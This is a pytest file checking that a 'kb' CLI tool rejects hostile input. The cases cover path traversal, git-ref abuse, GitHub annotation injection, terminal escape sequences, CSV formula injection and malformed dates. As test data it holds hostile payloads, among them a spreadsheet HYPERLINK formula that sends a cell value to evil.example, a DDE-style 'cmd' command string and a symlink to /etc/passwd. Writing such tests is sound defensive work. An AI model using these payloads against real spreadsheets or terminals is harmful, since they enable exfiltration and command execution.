"""The `kb` command given hostile or odd input: paths for ids, refs that are not commits, places
that cannot be written, bytes that are not UTF-8, Ctrl-C, control characters, file names that
would inject GitHub annotations, spreadsheet formulas, dates in the wrong form. Each ends in a
plain message and the documented exit status, never "internal error" or a traceback."""

from __future__ import annotations

import csv
import os
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from conftest import VALID, copy_project

from kb import cli
from kb.errors import Problem
from kb.export import _csv_cell
from kb.terminal import _UNSAFE, CleanStream, clean

ROOT = Path(__file__).resolve().parent.parent


def kb(*args: str | bytes, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """`kb ARGS` in a real process; bytes arguments reach it as the exact bytes."""
    proc = subprocess.run([sys.executable, "-m", "kb", *args], capture_output=True,
                          cwd=cwd, timeout=120)
    return subprocess.CompletedProcess(proc.args, proc.returncode,
                                       proc.stdout.decode("utf-8", "replace"),
                                       proc.stderr.decode("utf-8", "replace"))


def plain(proc: subprocess.CompletedProcess[str], code: int) -> str:
    """The error output, once it is known to be a plain message with exit status ``code``."""
    assert proc.returncode == code, (proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stdout + proc.stderr
    assert "internal error" not in proc.stderr
    return proc.stderr


def tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True,
                          env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
                               "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t",
                               "PATH": os.environ["PATH"]}).stdout


# --- kb new --from: an id of a chip in records/chips, never a path -------------------------

@pytest.mark.parametrize("given", ["../rules/test-rule", "chips/../rules/test-rule",
                                   "acme-x1.yaml", "./acme-x1", "acme-x1\n", "ACME-X1"])
def test_from_refuses_anything_but_an_id(given, records_dir):
    before = tree(records_dir)
    err = plain(kb("new", "chip", "acme-x9", "--from", given, "--records", str(records_dir)), 2)
    assert "not an id" in err
    assert tree(records_dir) == before


def test_from_refuses_an_absolute_path_to_a_yaml_outside(records_dir, tmp_path):
    secret = tmp_path / "secret.yaml"
    secret.write_text("id: secret\nname: do not copy\n")
    err = plain(kb("new", "chip", "acme-x9", "--from", str(secret), "--records",
                   str(records_dir)), 2)
    assert "not an id" in err
    assert not (records_dir / "chips" / "acme-x9.yaml").exists()


@pytest.mark.parametrize(("given", "meant"), [("acme-x1.yaml", "acme-x1"),
                                              ("acme-x2", "acme-x1"),
                                              ("../chips/acme-x1-lite.yaml", "acme-x1-lite")])
def test_from_suggests_the_chip_meant(given, meant, records_dir):
    err = plain(kb("new", "chip", "acme-x9", "--from", given, "--records", str(records_dir)), 2)
    assert f"did you mean {meant}" in err


def test_from_refuses_a_link_that_leads_out_of_the_chips_folder(records_dir):
    (records_dir / "chips" / "evil.yaml").symlink_to(records_dir / "rules" / "test-rule.yaml")
    err = plain(kb("new", "chip", "acme-x9", "--from", "evil", "--records", str(records_dir)), 2)
    assert "leads outside" in err
    assert not (records_dir / "chips" / "acme-x9.yaml").exists()


def test_from_an_id_still_works(records_dir):
    plain(kb("new", "chip", "acme-x9", "--from", "acme-x1", "--records", str(records_dir)), 0)
    assert "id: acme-x9" in (records_dir / "chips" / "acme-x9.yaml").read_text()


# --- kb diff: a ref must name a commit ------------------------------------------------------

@pytest.fixture
def repo(records_dir: Path) -> Path:
    _git(records_dir.parent, "init", "-q")
    _git(records_dir.parent, "add", ".")
    _git(records_dir.parent, "commit", "-qm", "base")
    return records_dir.parent


@pytest.mark.parametrize(("ref", "says"), [
    ("HEAD:records", "names a folder's contents, not a commit"),
    ("HEAD:records/chips/acme-x1.yaml", "names a file's contents, not a commit"),
    ("HEAD^{tree}", "names a folder's contents, not a commit"),
    ("no-such-branch", "no commit 'no-such-branch'"),
    ("HEAD~3", "no commit 'HEAD~3'"),
    ("--output=x.tar", "is not a git ref"),
    ("", "is not a git ref"),
])
def test_diff_refuses_a_ref_that_is_not_a_commit(ref, says, repo):
    err = plain(kb("diff", "--records", str(repo / "records"), "--", ref, cwd=repo), 2)
    assert says in err
    assert not (repo / "x.tar").exists()


def test_diff_takes_a_commit_hash_and_a_tag(repo):
    _git(repo, "tag", "v1")
    for ref in ("v1", _git(repo, "rev-parse", "HEAD").strip()):
        proc = kb("diff", ref, "--records", str(repo / "records"), cwd=repo)
        assert plain(proc, 0) == ""
        assert "No record changed." in proc.stdout


# --- places that cannot be written ----------------------------------------------------------

def test_new_where_the_kind_folder_is_a_file(records_dir):
    shutil.rmtree(records_dir / "sources")
    (records_dir / "sources").write_text("not a folder\n")
    err = plain(kb("new", "source", "acme-manual", "--records", str(records_dir)), 1)
    assert f"cannot write {records_dir}/sources/acme-manual.yaml: {records_dir}/sources is a " \
           "file, not a folder" in err


def _unwritable_folder() -> Path:
    """A folder that refuses new files even to root: sysfs takes none. (chmod does not stop
    root, and a read-only mount needs privileges the tests should not ask for.)"""
    folder = Path("/sys/kernel")
    probe = folder / "kb-probe.yaml"
    try:
        probe.open("x").close()
    except OSError:
        return folder
    probe.unlink()
    pytest.skip("/sys/kernel accepts files here")


def test_new_into_a_folder_that_refuses_writes_says_permission_denied(records_dir):
    # A real write that the kernel refuses: records/sources is a link to sysfs.
    folder = _unwritable_folder()
    shutil.rmtree(records_dir / "sources")
    (records_dir / "sources").symlink_to(folder)
    err = plain(kb("new", "source", "acme-manual", "--records", str(records_dir)), 1)
    assert err == (f"kb new: cannot write {records_dir}/sources/acme-manual.yaml: "
                   "permission denied\n")


def test_new_when_open_raises_permission_error(records_dir, monkeypatch, capsys):
    # The non-root case of the same message, where chmod would do: open() as it fails there.
    def refuse(self: Path, *args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "open", refuse)
    assert cli.main(["new", "chip", "acme-x9", "--records", str(records_dir)]) == 1
    assert capsys.readouterr().err == (f"kb new: cannot write {records_dir}/chips/acme-x9.yaml: "
                                       "permission denied\n")


def test_new_without_a_records_folder_is_a_usage_error(tmp_path):
    err = plain(kb("new", "chip", "acme-x9", "--records", str(tmp_path / "nowhere")), 2)
    assert "no records folder at" in err
    assert not (tmp_path / "nowhere").exists()


def test_schema_under_a_file_and_into_a_folder_that_refuses_writes(tmp_path):
    (tmp_path / "afile").write_text("x")
    err = plain(kb("schema", str(tmp_path / "afile" / "schemas")), 1)
    assert f"{tmp_path}/afile is a file, not a folder" in err
    folder = _unwritable_folder()
    err = plain(kb("schema", str(folder)), 1)
    assert f"kb schema: cannot write {folder}/" in err and ": permission denied" in err


def test_schema_onto_a_file_is_a_usage_error(tmp_path):
    (tmp_path / "schemas").write_text("keep me")
    assert "is a file" in plain(kb("schema", str(tmp_path / "schemas")), 2)
    assert (tmp_path / "schemas").read_text() == "keep me"


# --- arguments that are not UTF-8 -----------------------------------------------------------

@pytest.mark.parametrize(("args", "name"), [
    ([b"whatif", b"\xff"], "criterion"),
    ([b"whatif", b"{tpp: {gte: 1}}", b"--on", b"2024-06-0\xff"], "--on"),
    ([b"classify", b"\xffacme"], "chip"),
    ([b"classify", b"acme-x1", b"--on", b"\xff"], "--on"),
    ([b"classify", b"acme-x1", b"--to", b"C\xff"], "--to"),
    ([b"classify", b"acme-x1", b"--to", b"CN", b"--hq", b"\xfe"], "--hq"),
    ([b"timeline", b"acme\xff"], "chip"),
    ([b"new", b"chip", b"acme\xff"], "id"),
    ([b"new", b"chip", b"acme-x9", b"--from", b"acme\xff"], "--from"),
    ([b"new", b"\xff", b"acme-x9"], "kind"),
    ([b"diff", b"HEAD\xff"], "ref"),
])
def test_text_that_is_not_utf8_is_a_usage_error(args, name, records_dir):
    before = tree(records_dir)
    err = plain(kb(*args, b"--records", os.fsencode(records_dir)), 2)
    assert f"{name} is not valid UTF-8 text" in err
    assert tree(records_dir) == before


def test_a_file_name_that_is_not_utf8_is_allowed_and_shown_escaped(tmp_path):
    err = plain(kb(b"validate", os.fsencode(tmp_path) + b"/\xff"), 2)
    assert err == f"kb validate: no records folder at {tmp_path}/\\udcff\n"


# --- Ctrl-C ---------------------------------------------------------------------------------

def _interrupt(args: list[str], cwd: Path, wait_for: Path | None, delay: float
               ) -> subprocess.CompletedProcess[str]:
    """Start ``args`` in its own process group and send the whole group SIGINT, as a
    terminal's Ctrl-C does: once ``wait_for`` exists (the work is under way), then ``delay``."""
    proc = subprocess.Popen(args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    deadline = time.monotonic() + 60
    while wait_for is not None and not wait_for.exists() and proc.poll() is None:
        assert time.monotonic() < deadline, "the command never got under way"
        time.sleep(0.01)
    time.sleep(delay)
    assert proc.poll() is None, "the command ended before it could be interrupted"
    os.killpg(proc.pid, signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    return subprocess.CompletedProcess(args, proc.returncode, out, err)


@pytest.mark.parametrize("delay", [0.0, 0.2, 0.4])
def test_ctrl_c_during_a_build_ends_quietly_with_130(delay, tmp_path):
    project = copy_project(tmp_path / "project")
    shutil.rmtree(project / "records")
    shutil.copytree(ROOT / "records", project / "records")  # the real ones: a longer build
    proc = _interrupt([sys.executable, "-m", "kb", "build", "--out", str(tmp_path / "site")],
                      project, project / "build", delay)
    assert proc.returncode == 130, proc.stderr
    assert proc.stderr == "kb build: interrupted\n"


def _hooked(hook: str, args: list[str]) -> list[str]:
    """A real `kb` process whose ``hook`` (import of a module, or argument parsing) sends the
    process SIGINT, so the signal lands exactly there."""
    code = f"""
import builtins, os, signal, sys
import argparse
hook = {hook!r}
if hook == "parse":
    real_parse = argparse.ArgumentParser.parse_known_args
    def parse(self, *a, **k):
        os.kill(os.getpid(), signal.SIGINT)
        return real_parse(self, *a, **k)
    argparse.ArgumentParser.parse_known_args = parse
else:
    real_import = builtins.__import__
    def imp(name, *a, **k):
        if name == hook:
            os.kill(os.getpid(), signal.SIGINT)
        return real_import(name, *a, **k)
    builtins.__import__ = imp
from kb.cli import run
sys.argv = ["kb", *{args!r}]
run()
"""
    return [sys.executable, "-c", code]


@pytest.mark.parametrize("hook", ["parse", "pydantic", "kb.models"])
def test_ctrl_c_during_argument_parsing_or_imports_ends_quietly(hook, records_dir):
    proc = subprocess.run(_hooked(hook, ["validate", str(records_dir)]), capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 130, proc.stderr
    assert proc.stderr == "kb validate: interrupted\n"


# --- GitHub annotations ---------------------------------------------------------------------

def test_github_annotation_cannot_be_injected_through_a_file_name(records_dir):
    bad = records_dir / "chips" / "x\n::add-mask::secret,line=1:y%.yaml"
    bad.write_text("id: nope\n")
    proc = kb("validate", "--format", "github", str(records_dir))
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines and all(ln.startswith(("::error ", "::warning ")) for ln in lines)
    assert not any(ln.startswith("::add-mask::") for ln in lines)
    mine = [ln for ln in lines if "add-mask" in ln]
    assert mine and all("x%0A%3A%3Aadd-mask%3A%3Asecret%2Cline=1%3Ay%25.yaml,line=" in ln
                        for ln in mine)


def test_github_annotation_escapes_as_github_specifies():
    p = Problem("a,b:c\r\n%.yaml", 3, 4, "code", "field", "line one\nline two 100%\r")
    assert p.format_github() == ("::error file=a%2Cb%3Ac%0D%0A%25.yaml,line=3,col=4::"
                                 "[code] field: line one%0Aline two 100%25%0D")


# --- terminal output ------------------------------------------------------------------------

def test_clean_escapes_every_control_format_and_surrogate_character():
    # The hard-coded class against this Python's Unicode tables: nothing unsafe let through,
    # nothing escaped but unsafe or unassigned characters.
    unsafe = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    for code in range(sys.maxunicode + 1):
        ch = chr(code)
        category = unicodedata.category(ch)
        caught = _UNSAFE.fullmatch(ch) is not None
        if ch in "\n\t":
            assert not caught
        elif category in unsafe:
            assert caught, f"U+{code:04X} ({category}) is let through"
        else:
            assert not caught or category == "Cn", f"U+{code:04X} ({category}) is escaped"


def test_clean_writes_visible_escapes_that_json_reads_back():
    import json

    text = "a\x1b[2Jb\u202ec\u200bd\x9be\udcff\U000e0041\rf\n\tg é 中"
    assert clean(text) == ("a\\u001b[2Jb\\u202ec\\u200bd\\u009be\\udcff\\udb40\\udc41\\u000df"
                           "\n\tg é 中")
    assert json.loads(clean(json.dumps(text, ensure_ascii=False))) == text


def test_validate_messages_print_no_control_characters(records_dir):
    # Real files: a field name and a file name holding ESC and a right-to-left override, both
    # quoted back in validate's messages.
    chip = records_dir / "chips" / "acme-x1.yaml"
    text = chip.read_text()
    chip.write_text(text + '"bad\\e[2J\u202e": 1\n')
    (records_dir / "chips" / "x\x1b]0;pwned\x07.yaml").write_text("id: x\n")
    proc = kb("validate", str(records_dir))
    assert proc.returncode == 1, proc.stderr
    line = len(text.splitlines()) + 1
    assert f"acme-x1.yaml:{line}:" in proc.stderr and "bad\\u001b[2J\\u202e" in proc.stderr
    assert "x\\u001b]0;pwned\\u0007.yaml" in proc.stderr
    assert not _UNSAFE.search(proc.stdout + proc.stderr)


def test_every_line_a_command_prints_is_cleaned(records_dir, monkeypatch, capsys):
    # A chip as Python could make it: the records loaded, then its name replaced.
    from kb import loader

    real = loader.load

    def load(*args: object, **kwargs: object) -> object:
        base = real(*args, **kwargs)
        chip = base.chips["acme-x1"]
        object.__setattr__(chip, "name", "\x1b]0;pwned\x07\x1b[2J\u202eX\u2066")
        return base

    monkeypatch.setattr(loader, "load", load)
    assert cli.main(["classify", "acme-x1", "--on", "2024-06-01", "--records",
                     str(records_dir)]) == 0
    assert cli.main(["timeline", "acme-x1", "--records", str(records_dir)]) == 0
    out = capsys.readouterr().out
    assert not _UNSAFE.search(out)
    assert out.count("\\u001b]0;pwned\\u0007\\u001b[2J\\u202eX\\u2066 (acme-x1)") == 2
    assert not isinstance(sys.stdout, CleanStream)  # put back after the command


def test_arguments_printed_back_are_cleaned(records_dir):
    for args in (["classify", "acme\x1b[2J", "--records", str(records_dir)],
                 ["whatif", "{vendor: {in: [\"\x1b[2J\u202e\"]}}", "--records", str(records_dir)],
                 ["new", "chip", "x", "--from", "a\x1b[31m", "--records", str(records_dir)],
                 ["classify", "acme-x1", "--on", "\x1b[2J", "--records", str(records_dir)]):
        proc = kb(*args)
        assert proc.returncode in (0, 2), proc.stderr
        assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
        assert not _UNSAFE.search(proc.stdout + proc.stderr), args


def test_diff_markdown_is_cleaned(repo, monkeypatch, capsys):
    from kb import diff

    result = diff.Diff(ref="HEAD", added=[("chips", "x\x1b[2J\u202e")])
    monkeypatch.setattr(diff, "run", lambda ref, records: result)
    assert cli.main(["diff", "HEAD", "--records", str(repo / "records")]) == 0
    out = capsys.readouterr().out
    assert "- `chips/x\\u001b[2J\\u202e`" in out and not _UNSAFE.search(out)


# --- CSV formulas ---------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("- a list item", "'- a list item"),
    ("-1.5", "-1.5"), ("+2", "+2"), ("-3e5", "-3e5"), ("-.5", "-.5"),
    (-1.5, "-1.5"), (-7, "-7"), (12, "12"),
    ("plain text", "plain text"), ("a=b", "a=b"), ("", ""), (None, ""), (True, "true"),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value, written):
    assert _csv_cell(value) == written


def test_csv_export_of_a_formula_in_a_record(records_dir, tmp_path):
    chip = records_dir / "chips" / "acme-x1.yaml"
    text = chip.read_text()
    assert "\nfamily:" not in text
    chip.write_text(text + 'family: "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"\n')
    out = tmp_path / "csv"
    plain(kb("export", "--format", "csv", str(out), "--records", str(records_dir)), 0)
    with (out / "chip.csv").open(newline="", encoding="utf-8") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    assert rows["acme-x1"]["family"] == '\'=HYPERLINK("http://evil.example","x")'


# --- dates ----------------------------------------------------------------------------------

@pytest.mark.parametrize("day", ["20240601", "2024-W22-6", "2024-06", "2024-6-1", "June",
                                 "２０２４-０６-０１", "2024-06-01T00:00", " 2024-06-01"])
@pytest.mark.parametrize("command", [["classify", "acme-x1"], ["whatif", "{tpp: {gte: 1}}"]])
def test_a_date_not_written_yyyy_mm_dd_is_refused(day, command, records_dir):
    err = plain(kb(*command, "--on", day, "--records", str(records_dir)), 2)
    assert f"--on: expected a date written YYYY-MM-DD, e.g. 2024-06-01; found {day!r}" in err


def test_an_impossible_date_is_refused_and_a_right_one_taken(records_dir):
    err = plain(kb("classify", "acme-x1", "--on", "2024-02-30", "--records", str(records_dir)), 2)
    assert "--on: 2024-02-30 is not a date (day is out of range for month)" in err
    proc = kb("classify", "acme-x1", "--on", "2024-02-29", "--records", str(records_dir))
    assert plain(proc, 0) == "" and "on 2024-02-29" in proc.stdout


def test_the_python_api_still_takes_dates_and_iso_strings():
    import datetime as dt

    from kb.knowledge import as_day

    assert as_day("2024-06-01") == as_day(dt.date(2024, 6, 1)) == dt.date(2024, 6, 1)
    assert as_day(dt.datetime(2024, 6, 1, 12)) == dt.date(2024, 6, 1)


def test_fixture_records_are_what_these_tests_expect():
    # The cases above name acme-x1, acme-x1-lite and test-rule of the valid fixture tree.
    assert {"acme-x1", "acme-x1-lite"} <= {p.stem for p in (VALID / "chips").glob("*.yaml")}
    assert (VALID / "rules" / "test-rule.yaml").is_file()


# --- other bad input that used to reach "internal error" or pass in silence ------------------

@pytest.mark.parametrize(("args", "says"), [
    (["classify", "acme-x1", "--to", ""], "--to: give a country code"),
    (["classify", "acme-x1", "--to", " "], "--to: give a country code"),
    (["classify", "acme-x1", "--to", "CN", "--hq", ""], "--hq: give a country code"),
    (["classify", "acme-x1", "--hq", "CN"], "--hq works with --to"),
    (["serve", "--port", "99999"], "expected a TCP port from 1 to 65535, got '99999'"),
    (["serve", "--port", "-1"], "expected a TCP port from 1 to 65535, got '-1'"),
    (["serve", "--port", "0"], "expected a TCP port from 1 to 65535, got '0'"),
    (["serve", "--host", "no-such-host.invalid"], "cannot find host 'no-such-host.invalid'"),
    (["serve", "--host", "a..b"], "cannot find host 'a..b'"),
    (["build", "--jobs", "99999999999999999999"], "at most 256 processes"),
    (["build", "--jobs", "١٢"], "expected a whole number from 1 up"),
    (["schema", ""], "argument out: an empty path names no file or folder"),
    (["validate", ""], "argument path: an empty path"),
    (["export", "--format", "csv", ""], "argument out: an empty path"),
    (["build", "--out", ""], "argument --out: an empty path"),
])
def test_odd_arguments_are_usage_errors(args, says, records_dir, tmp_path):
    # Run in an empty folder: nothing may be written there, whatever "" would have meant.
    work = tmp_path / "work"
    work.mkdir()
    records = [] if args[0] in ("schema", "validate") else ["--records", str(records_dir)]
    assert says in plain(kb(*args, *records, cwd=work), 2)
    assert list(work.iterdir()) == []


def test_diff_leaves_out_links_committed_in_the_records(repo):
    chips = repo / "records" / "chips"
    (chips / "evil.yaml").symlink_to("/etc/passwd")
    (chips / "evil2.yaml").symlink_to("../../../outside.yaml")
    _git(repo, "add", ".")
    _git(repo, "commit", "-qm", "links")
    for link in ("evil.yaml", "evil2.yaml"):
        (chips / link).unlink()
    proc = kb("diff", "HEAD", "--records", str(repo / "records"), cwd=repo)
    assert plain(proc, 0) == ""
    assert "No record changed." in proc.stdout


def test_a_port_in_use_is_said_plainly(tmp_path):
    import socket

    project = copy_project(tmp_path / "project")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        err = plain(kb("serve", "--port", str(port), cwd=project), 1)
    assert err.endswith("kb serve: address already in use\n"), err


def test_ctrl_c_while_serving_ends_without_a_traceback(tmp_path):
    # Sent as soon as the server answers: the charts and downloads are then still being made
    # in the server's helper process, which once answered Ctrl-C with two tracebacks.
    import socket
    import urllib.request

    project = copy_project(tmp_path / "project")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "kb", "serve", "--port", str(port)],
                            cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    deadline = time.monotonic() + 60
    while True:
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "the server never answered"
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=1):
                break
        except OSError:
            time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode in (0, 130), err
    assert "Traceback" not in err and "Exception" not in err, err


def test_a_closed_stdout_or_stderr_is_no_internal_error(records_dir):
    # `kb validate >&-`: Python then has no sys.stdout at all.
    import shlex

    cmd = shlex.join([sys.executable, "-m", "kb", "validate", str(records_dir)])
    closed_out = subprocess.run(["bash", "-c", f"{cmd} >&-"], capture_output=True, text=True,
                                timeout=60)
    assert closed_out.returncode == 0 and closed_out.stderr == ""
    bad = shlex.join([sys.executable, "-m", "kb", "validate", str(records_dir / "nope")])
    closed_err = subprocess.run(["bash", "-c", f"{bad} 2>&-"], capture_output=True, text=True,
                                timeout=60)
    assert closed_err.returncode == 2
    assert "internal error" not in closed_err.stdout + closed_err.stderr


def test_a_full_disk_is_said_plainly(records_dir):
    with open("/dev/full", "w") as full:
        proc = subprocess.run([sys.executable, "-m", "kb", "validate", str(records_dir)],
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert proc.returncode == 1
    assert proc.stderr == "kb validate: no space left on device\n"


def test_a_surrogate_given_from_python_is_a_usage_error_too(records_dir, capsys):
    assert cli.main(["classify", "acme\ud800", "--records", str(records_dir)]) == 2
    assert capsys.readouterr().err == ("kb classify: chip is not valid UTF-8 text "
                                       "(read b'acme\\\\ud800'); write it in UTF-8\n")


def test_a_ctrl_c_python_could_not_raise_stops_the_command_all_the_same(monkeypatch):
    # The case seen in a real interrupted build: the KeyboardInterrupt lands in a weak
    # reference's callback (importlib's module locks have one), where Python only prints it.
    import time
    import weakref

    monkeypatch.setattr(sys, "unraisablehook", cli._redeliver_interrupts)

    class Lock:
        pass

    def callback(_ref: object) -> None:
        raise KeyboardInterrupt

    lock = Lock()
    ref = weakref.ref(lock, callback)
    with pytest.raises(KeyboardInterrupt):
        del lock
        for _ in range(200):
            time.sleep(0.005)
    assert ref() is None
